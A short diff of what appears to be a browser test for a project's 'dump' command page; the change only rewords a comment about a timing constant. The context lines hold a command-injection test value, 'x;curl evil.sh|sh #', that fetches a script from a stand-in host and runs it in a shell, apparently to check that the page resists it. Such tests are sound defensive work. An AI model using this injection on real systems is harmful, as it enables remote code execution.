@@ -17,7 +17,7 @@ const DUMP = `${site.url}/projects/commander/commands/dump`
 const HOSTILE = 'x;curl evil.sh|sh #'
 const HOSTILE_LINK = `${DUMP}#host=${encodeURIComponent(HOSTILE)}`
 
-// A little longer than the time before a second press counts.
+// Slightly longer than the time for which a second press is ignored.
 const READING_MS = 1100
 
 after(closeBrowser)
